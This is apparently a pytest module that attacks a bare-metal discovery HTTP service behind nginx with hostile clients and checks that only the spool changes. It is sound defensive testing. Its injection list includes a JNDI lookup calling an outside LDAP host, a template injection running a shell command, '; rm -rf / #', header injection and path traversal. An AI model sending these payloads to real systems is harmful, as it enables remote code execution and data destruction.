# Copyright: baremetal.provision contributors
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""The discovery spool service under hostile clients, as the discovery role installs it: the
role renders its files (service manager "none", every path temporary), the real bm_discover.py
runs from them on loopback, behind the real nginx with the role's locations inside a server
block like the kickstart role's.

Hostile clients: malformed JSON, oversized bodies, missing lengths, floods from one source and
for one MAC, a full spool, injection strings in every string field, wrong methods and paths,
slow clients. Every refusal must change nothing: the spool holds exactly the accepted entries,
nothing outside it is written, and the service still takes a valid report at the end."""

import hashlib
import http.client
import json
import os
import re
import socket
import subprocess
import sys
import threading
from concurrent.futures import ThreadPoolExecutor

import pytest
from support import report as figures
from support.discovery_lab import paths, role_vars, run_role, stand_in_collector
from support.netns import sh, wait_for

from ansible_collections.baremetal.provision.plugins.module_utils._provisioner import discovery as D

MAX_ENTRIES = 200
PER_SOURCE = 20
TIMEOUT = 5  # seconds the service gives a client to send its request (its --timeout)
STRING_FIELDS = [
    "collector",
    "boot.mac",
    "boot.source",
    "boot.mode",
    "system.vendor",
    "system.product",
    "system.serial",
    "system.uuid",
    "nics[0].name",
    "nics[0].mac",
    "disks[0].name",
    "disks[0].model",
    "disks[0].serial",
    "disks[0].wwn",
    "bmc.ip",
    "bmc.mac",
]
INJECTIONS = [
    "a\nb",
    "a\r\nHost: evil",
    "quote \" and '",
    "} location / { return 200; }",
    "${next-server}",
    "${jndi:ldap://198.51.100.9/x}",
    "{{ lookup('pipe', 'touch /tmp/bm-pwned') }}",
    "{% raw %}x",
    "nul\x00byte",
    "line\u2028sep",
    "../../../etc/passwd",
    "; rm -rf / #",
    "\\x41\\n",
]


def _free_port():
    probe = socket.socket()
    probe.bind(("127.0.0.1", 0))
    port = probe.getsockname()[1]
    probe.close()
    return port


def _mac(i):
    return "52:54:00:%02x:%02x:%02x" % ((i >> 16) & 0xFF, (i >> 8) & 0xFF, i & 0xFF)


def _report(mac, **changes):
    data = {
        "schema": 1,
        "collector": "baremetal.provision-collector/1",
        "boot": {"mac": mac, "source": "bootif", "mode": "bios"},
        "system": {"vendor": "QEMU", "product": "Standard PC", "serial": "SN", "uuid": ""},
        "cpus": 2,
        "memory_mib": 2048,
        "nics": [{"name": "eth0", "mac": mac, "carrier": True, "speed_mbps": 1000}],
        "disks": [{"name": "vda", "size_bytes": 1 << 30, "model": "", "serial": "", "wwn": "", "rotational": None}],
        "bmc": {"ip": "192.0.2.250", "mac": ""},
    }
    for path, value in changes.items():
        parts = path.replace("[", ".").replace("]", "").split(".")
        target = data
        for part in parts[:-1]:
            target = target[int(part)] if isinstance(target, list) else target[part]
        target[parts[-1]] = value
    return data


def _snapshot(root, skip):
    """{relative path: (sha256 or "dir", mode)} of everything under root but the skipped folders."""
    found = {}
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if os.path.join(folder, d) not in skip]
        for name in dirs + files:
            path = os.path.join(folder, name)
            stat = os.lstat(path)
            if os.path.isdir(path):
                found[os.path.relpath(path, root)] = ("dir", stat.st_mode)
            else:
                with open(path, "rb") as handle:
                    found[os.path.relpath(path, root)] = (hashlib.sha256(handle.read()).hexdigest(), stat.st_mode)
    return found


@pytest.fixture(scope="module")
def lab(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("discovery_hostile")
    root = tmp / "root"
    where = paths(root)
    stand_in_collector(where["collector"])
    port = _free_port()
    variables = role_vars(
        where,
        discovery_port=port,
        discovery_max_entries=MAX_ENTRIES,
        discovery_per_source=PER_SOURCE,
    )
    proc, _recap = run_role(tmp, variables)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    # a canary tree beside what the role wrote: nothing may appear or change anywhere but the spool
    canary = root / "canary"
    (canary / "etc" / "dhcp").mkdir(parents=True)
    (canary / "etc" / "dhcp" / "dhcpd.conf").write_text("# the live DHCP config\n")
    (canary / "srv" / "tftp" / "pxelinux.cfg").mkdir(parents=True)
    (canary / "srv" / "tftp" / "pxelinux.cfg" / "default").write_text("DEFAULT local\n")
    run_dir = tmp / "run"  # nginx's and the service's own files: outside the compared tree
    run_dir.mkdir()
    web = _free_port()
    conf = run_dir / "nginx.conf"
    conf.write_text(
        "daemon off;\nuser root;\npid %(run)s/nginx.pid;\nerror_log %(run)s/nginx-error.log info;\n"
        "events { worker_connections 256; }\n"
        "http {\n  access_log %(run)s/access.log;\n  client_body_temp_path %(run)s/body;\n"
        "  proxy_temp_path %(run)s/proxy;\n  fastcgi_temp_path %(run)s/fcgi;\n  uwsgi_temp_path %(run)s/uwsgi;\n"
        "  scgi_temp_path %(run)s/scgi;\n"
        "  server {\n    listen 127.0.0.1:%(web)d;\n    server_tokens off;\n"
        "    include %(include)s/*.conf;\n    location / { return 404; }\n  }\n}\n"
        % {"run": run_dir, "web": web, "include": where["include"]}
    )
    sh("nginx", "-t", "-c", str(conf))
    before = _snapshot(str(root), {where["spool"]})
    logs = {name: open(str(run_dir / (name + ".log")), "wb") for name in ("nginx", "service")}  # noqa: SIM115
    nginx = subprocess.Popen(["nginx", "-c", str(conf)], stdout=logs["nginx"], stderr=subprocess.STDOUT)
    service = subprocess.Popen(
        [
            sys.executable,
            os.path.join(where["code"], "bm_discover.py"),
            "--spool-dir",
            where["spool"],
            "--port",
            str(port),
            "--max-entries",
            str(MAX_ENTRIES),
            "--per-source",
            str(PER_SOURCE),
            "--timeout",
            str(TIMEOUT),
        ],
        stdout=logs["service"],
        stderr=subprocess.STDOUT,
    )

    def up(number):
        try:
            socket.create_connection(("127.0.0.1", number), timeout=1).close()
            return True
        except OSError:
            return False

    wait_for(lambda: up(port), what="the discovery service")
    wait_for(lambda: up(web), what="nginx")
    yield {
        "root": str(root),
        "where": where,
        "port": port,
        "web": web,
        "service": service,
        "before": before,
        "log": str(run_dir / "service.log"),
    }
    for proc in (service, nginx):
        proc.terminate()
        proc.wait(timeout=10)
    for handle in logs.values():
        handle.close()


def _post(port, body, headers=None, path="/bm/discover", method="POST"):
    """(status, answer as dict or raw bytes); body: bytes or a report."""
    if not isinstance(body, (bytes, type(None))):
        body = json.dumps(body).encode("utf-8")
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        conn.request(method, path, body=body, headers=headers or {})
        response = conn.getresponse()
        data = response.read()
    finally:
        conn.close()
    try:
        return response.status, json.loads(data)
    except ValueError:
        return response.status, data


def _raw(port, data, wait=30, half_close=False):
    """Send raw bytes (half_close: then end the sending side); the status of the answer, or
    None when the service closes without one."""
    with socket.create_connection(("127.0.0.1", port), timeout=wait) as sock:
        try:
            sock.sendall(data)
            if half_close:
                sock.shutdown(socket.SHUT_WR)
            answer = sock.recv(4096)
        except OSError:
            return None
    if not answer.startswith(b"HTTP/"):
        return None
    return int(answer.split()[1])


class Tally(object):
    """What was tried, by kind and answer, and which MACs the service accepted how often."""

    def __init__(self):
        self.kinds = {}
        self.accepted = {}
        self.accepted_total = 0
        self.mutex = threading.Lock()

    def add(self, kind, status, mac=None):
        with self.mutex:
            self.kinds.setdefault(kind, {}).setdefault(status, 0)
            self.kinds[kind][status] += 1
            if status in (200, 201):
                self.accepted[mac] = self.accepted.get(mac, 0) + 1
                self.accepted_total += 1


def test_hostile_clients_change_nothing_but_the_spool(lab):
    port, web = lab["port"], lab["web"]
    tally = Tally()
    # every request its own source address (but the flood from one): only that flood meets the
    # per-source limit; the service trusts X-Real-IP as it does nginx's
    sources = iter("%s.%d" % (net, i) for net in ("198.51.100", "192.0.2", "203.0.113") for i in range(1, 255))

    def send(kind, body, mac=None, source=None, expect=None, **options):
        headers = dict(options.pop("headers", {}))
        if source:
            headers["X-Real-IP"] = source
        status, answer = _post(options.pop("port", port), body, headers=headers, **options)
        tally.add(kind, status, mac)
        if expect is not None:
            assert status in (expect if isinstance(expect, tuple) else (expect,)), (kind, status, answer)
        return status, answer

    # --- through nginx, as a machine reports: accepted once, its source is nginx's peer
    status, answer = send("valid via nginx", _report(_mac(1)), _mac(1), port=web, expect=201)
    assert answer == {"status": 201, "message": "52:54:00:00:00:01 recorded"}
    send("wrong method via nginx", None, port=web, method="GET", expect=403)
    send("oversized via nginx", b"x" * 70000, port=web, expect=413)
    assert (
        sh("curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "http://127.0.0.1:%d/discovery/vmlinuz" % web).stdout
        == "200"
    )

    # --- malformed JSON and bodies that are no report
    malformed = [
        b"",
        b"{",
        b"null",
        b"[]",
        b'"report"',
        b"\xff\xfe\x00",
        b"[" * 20000,
        b'{"schema": NaN}',
        b'{"schema": 1, "schema": 1}',
        b"9" * 5000,
        json.dumps(_report(_mac(2), cpus=True)).encode(),
        json.dumps(_report(_mac(2), extra=1)).encode(),
        json.dumps(_report(_mac(2), nics=[])).encode(),
        json.dumps(_report(_mac(2), **{"boot.mac": "01:00:5e:00:00:01"})).encode(),
    ]
    for body in malformed:
        send("malformed", body, source=next(sources), expect=400)
    status, answer = _post(port, json.dumps(_report(_mac(2), cpus=True)).encode())
    assert status == 400 and answer["message"].startswith("report field cpus: must be an integer, got a boolean")

    # --- lengths: too large (declared, and sent), missing, chunked, lying
    assert _raw(port, b"POST /bm/discover HTTP/1.1\r\nContent-Length: 100000000\r\n\r\n") == 413
    tally.add("oversized", 413)
    status = _raw(port, b"POST /bm/discover HTTP/1.1\r\nContent-Length: 70000\r\n\r\n" + b"{" * 70000)
    assert status in (413, None)  # the service answers, then closes with the body unread
    tally.add("oversized", status)
    for head in (
        b"POST /bm/discover HTTP/1.1\r\n\r\n",
        b"POST /bm/discover HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
    ):
        assert _raw(port, head) == 411
        tally.add("missing length", 411)
    for length in (b"-1", b"abc", b"\xd9\xa1", b"1e3"):
        assert _raw(port, b"POST /bm/discover HTTP/1.1\r\nContent-Length: " + length + b"\r\n\r\n{}") == 400
        tally.add("bad length", 400)
    lying = b"POST /bm/discover HTTP/1.1\r\nContent-Length: 10\r\n\r\n{}"
    assert _raw(port, lying, half_close=True) == 400  # the body ends early
    tally.add("bad length", 400)
    assert _raw(port, lying) == 408  # the rest never comes: the service's timeout
    tally.add("bad length", 408)

    # --- wrong methods and paths
    for method, path, expected in (
        ("GET", "/bm/discover", 405),
        ("PUT", "/bm/discover", 405),
        ("DELETE", "/bm/discover", 405),
        ("HEAD", "/bm/discover", 405),
        ("OPTIONS", "/bm/discover", 405),
        ("PATCH", "/bm/discover", 405),
        ("GET", "/", 404),
        ("POST", "/bm/discover/", 404),
        ("POST", "/bm/discover/../callback/x", 404),
        ("POST", "/BM/DISCOVER", 404),
        ("GET", "/discovery/vmlinuz", 404),
    ):
        send("wrong method or path", json.dumps(_report(_mac(3))).encode(), method=method, path=path, expect=expected)
    for raw in (b"BREW /bm/discover HTTP/1.1\r\n\r\n", b"GARBAGE\r\n\r\n", b"\x00\x01\x02\r\n\r\n"):
        status = _raw(port, raw)
        assert status in (None, 400, 501)
        tally.add("wrong method or path", status)
    for header in ("198.51.100.1x", "not-an-address", ""):
        send("bad X-Real-IP", _report(_mac(3)), headers={"X-Real-IP": header}, expect=400)

    # --- injection strings in every string field: data or a refusal naming the field, never more
    injected = {}
    counter = 1000
    for field in STRING_FIELDS:
        for value in INJECTIONS:
            counter += 1
            mac = _mac(counter)
            data = _report(mac, **{field: value})
            if field == "nics[0].mac":
                data["nics"].append({"name": "eth1", "mac": mac, "carrier": None, "speed_mbps": None})
            status, answer = send("injection", data, mac, source=next(sources))
            if status == 201:
                injected[mac] = (field, value.strip())
            else:
                assert status == 400, (field, value, status, answer)
                assert field.split("[", maxsplit=1)[0] in answer["message"], answer
    # (accepted ones count against the spool's limit: keep room for the floods)
    spool_now = len(D.spool_macs(lab["where"]["spool"]))
    assert spool_now < MAX_ENTRIES - PER_SOURCE - 1, spool_now

    # --- a flood for one MAC: one accepted report per interval, the rest 429
    flood_mac = _mac(5000)
    statuses = [
        send("flood one MAC", _report(flood_mac, cpus=i), flood_mac, source=next(sources))[0] for i in range(30)
    ]
    assert statuses[0] == 201 and set(statuses[1:]) == {429}

    # --- a flood from one source, in parallel: PER_SOURCE accepted, the rest 429
    flooder = "203.0.113.66"
    macs = [_mac(6000 + i) for i in range(60)]
    with ThreadPoolExecutor(max_workers=16) as pool:
        results = list(pool.map(lambda mac: send("flood one source", _report(mac), mac, source=flooder), macs))
    statuses = [status for status, _answer in results]
    assert statuses.count(201) == PER_SOURCE and statuses.count(429) == len(macs) - PER_SOURCE

    # --- spool full: new MACs 507, a known one is limited by its interval, not by the limit
    counter = 7000
    while len(D.spool_macs(lab["where"]["spool"])) < MAX_ENTRIES:
        counter += 1
        send("fill", _report(_mac(counter)), _mac(counter), source=next(sources), expect=201)
    for i in range(10):
        status, answer = send("spool full", _report(_mac(8000 + i)), _mac(8000 + i), source=next(sources), expect=507)
    assert answer["message"] == "the spool holds %d entries, its limit; %s is not recorded" % (MAX_ENTRIES, _mac(8009))
    send("known MAC in a full spool", _report(flood_mac), flood_mac, source=next(sources), expect=429)

    # --- slow clients: a body that never arrives, headers that never end; others are served meanwhile
    with open(lab["log"], encoding="utf-8") as handle:
        slow_start = len(handle.read())
    slow = []
    for i in range(20):
        sock = socket.create_connection(("127.0.0.1", port), timeout=60)
        if i % 2:
            sock.sendall(b'POST /bm/discover HTTP/1.1\r\nContent-Length: 1000\r\n\r\n{"schema"')
        else:
            sock.sendall(b"POST /bm/discover HTTP/1.1\r\nContent-Le")
        slow.append(sock)
    known = _report(_mac(1), cpus=64)
    status, answer = _post(port, known, headers={"X-Real-IP": "192.0.2.77"})
    assert status == 429 and "at most one report per 30 s" in answer["message"]
    tally.add("served beside slow clients", status)
    marker = "refused 429 client=192.0.2.77 "
    slow_answers = []
    for sock in slow:
        with sock:
            data = sock.recv(4096)  # the service's timeout ends each; 60 s is this test's patience only
            slow_answers.append(int(data.split()[1]) if data.startswith(b"HTTP/") else None)
    assert slow_answers == [None, 408] * 10, slow_answers
    for status in slow_answers:
        tally.add("slow client", status)

    # --- the spool holds exactly the accepted entries, each counted as often as accepted
    entries, problems = D.read_spool(lab["where"]["spool"])
    assert problems == []
    assert {entry["mac"]: entry["reports"] for entry in entries} == tally.accepted
    stored = {entry["mac"]: entry["report"] for entry in entries}
    for mac, (field, value) in injected.items():
        probe = _report(mac, **{field: value})
        if field == "nics[0].mac":
            continue
        assert stored[mac] == D.check_report(probe), field  # the string as sent, kept as data
    assert stored[_mac(1)]["cpus"] == 2
    # nothing outside the spool was written, and nothing but entries and the lock inside it
    assert _snapshot(lab["root"], {lab["where"]["spool"]}) == lab["before"]
    inside = sorted(os.listdir(lab["where"]["spool"]))
    assert inside == sorted([".lock", *(D.entry_name(mac) for mac in tally.accepted)])
    assert not os.path.exists("/tmp/bm-pwned")

    # --- the service lives, logs escaped lines, and still takes a valid report
    assert lab["service"].poll() is None
    D.remove_entries(lab["where"]["spool"], [_mac(7001)])
    status, answer = send("valid after all", _report(_mac(9999)), _mac(9999), source="192.0.2.99", expect=201)
    tally.accepted.pop(_mac(7001))
    assert {entry["mac"] for entry in D.read_spool(lab["where"]["spool"])[0]} == set(tally.accepted)
    with open(lab["log"], encoding="utf-8") as handle:
        log = handle.read()
    # one line per request, each the service's own: no injected line break, NUL or separator
    for line in log.splitlines():
        assert re.match(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d+ bm-discover (INFO|WARNING) ", line), line
        assert line.isascii() and line.isprintable(), line
    assert "\\r\\nHost: evil" in log and "\\u2028" in log  # shown, escaped
    # the request beside the slow clients was answered before the first of them was cut off
    assert log.index(marker, slow_start) < log.index("refused 408", slow_start)
    assert "accepted 201 client=192.0.2.99 mac=52:54:00:00:27:0f" in log
    assert "refused 429 client=203.0.113.66" in log and "refused 507" in log and "refused 408" in log

    counts = {}
    for kind, by_status in tally.kinds.items():
        for status, number in by_status.items():
            key = "%s %s" % (kind, status if status is not None else "closed")
            counts[key.replace(" ", "_")] = number
    total = sum(counts.values())
    figures.add(
        "discovery service under hostile clients",
        requests=total,
        accepted=tally.accepted_total,
        refused=total - tally.accepted_total,
        injections_stored_as_data=len(injected),
        injections_refused=tally.kinds["injection"].get(400, 0),
        writes_outside_the_spool=0,
        crashes=int(lab["service"].poll() is not None),
    )
    for key, number in sorted(counts.items()):
        print("discovery hostile: %-45s %d" % (key, number))
